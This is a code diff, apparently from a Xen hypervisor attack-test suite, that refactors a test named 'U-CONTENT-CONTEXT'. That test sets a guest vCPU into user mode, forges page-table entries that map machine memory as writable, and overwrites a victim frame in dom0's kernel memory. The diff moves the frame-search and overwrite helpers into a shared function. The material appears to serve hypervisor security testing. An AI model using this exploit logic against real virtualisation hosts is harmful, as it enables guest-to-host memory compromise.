@@ -26,15 +26,8 @@
 #define TABLE_ENTRY  1
 #define MEMORY_ENTRY 2
 #define MEMORY_AT    ((uint64_t)TABLE_ENTRY << 39 | (uint64_t)MEMORY_ENTRY << 30)
-#define MEMORY_GIB   4
 #define IN_USE       0x67 /* present, writable, for user mode */
 #define LARGE        0x80
-
-/*
- * Where a PVH dom0's frames are in the machine, Xen does not tell. But it gives
- * dom0 memory in pages of 2 MiB, within which the order is the same.
- */
-#define FRAMES_2MIB 512
 
 /* Make it an accomplice whose vCPU is in user mode; @context is the vCPU's. */
 static bool in_user_mode(domid_t domid, xen_pfn_t *user_root,
@@ -102,54 +95,11 @@ static bool take_memory(xen_pfn_t user_root)
     bool taken = give_up_user_root() && map_user_root(user_root) &&
                  set_entry(TABLE_ENTRY, user_root * PAGE_SIZE | IN_USE);
 
-    for ( unsigned int i = 0; i < MEMORY_GIB; i++ )
+    for ( unsigned int i = 0; i < CONTENT_GIB; i++ )
         taken = taken &&
                 set_entry(MEMORY_ENTRY + i, (uint64_t)i << 30 | IN_USE | LARGE);
 
     return taken;
-}
-
-/* Where the accomplice finds this frame of the machine's, from its window on. */
-static unsigned int slot_of(uint64_t frame)
-{
-    return (unsigned int)((MEMORY_AT - ACCOMPLICE_WINDOW) / PAGE_SIZE + frame);
-}
-
-static bool holds(uint64_t frame, unsigned int offset, const uint32_t *words)
-{
-    bool same = true;
-
-    for ( unsigned int i = 0; same && i < MARK_SIZE / sizeof(*words); i++ )
-    {
-        uint32_t word;
-
-        same = accomplice_loads(slot_of(frame), offset + 4 * i, &word) &&
-               word == words[i];
-    }
-
-    return same;
-}
-
-static bool overwrite_victim(void)
-{
-    const unsigned int offset = victim() % PAGE_SIZE;
-    uint32_t before[MARK_SIZE / 4], mark[MARK_SIZE / 4];
-    uint64_t frame = kernel_frame(victim());
-
-    if ( !dom0_is_pv() )
-        frame %= FRAMES_2MIB;
-    read_victim(before, sizeof(before));
-    memcpy(mark, new_mark(), sizeof(mark));
-    while ( !holds(frame, offset, before) )
-    {
-        frame += FRAMES_2MIB;
-        if ( frame >= (uint64_t)MEMORY_GIB << 18 )
-            return false;
-    }
-    for ( unsigned int i = 0; i < ARRAY_SIZE(mark); i++ )
-        accomplice_stores(slot_of(frame), offset + 4 * i, mark[i]);
-
-    return victim_has_mark();
 }
 
 RAW_ATTACK("U-CONTENT-CONTEXT",
@@ -173,7 +123,7 @@ RAW_ATTACK("U-CONTENT-CONTEXT",
     result = content_set_context(domid, context);
     if ( !result && !issue(DOMCTL_CALL(unpausedomain, domid)) &&
          take_memory(user_root) )
-        written = overwrite_victim();
+        written = content_overwrites_victim(MEMORY_AT);
     end_domain(domid);
 
     return content_seen(written, result,
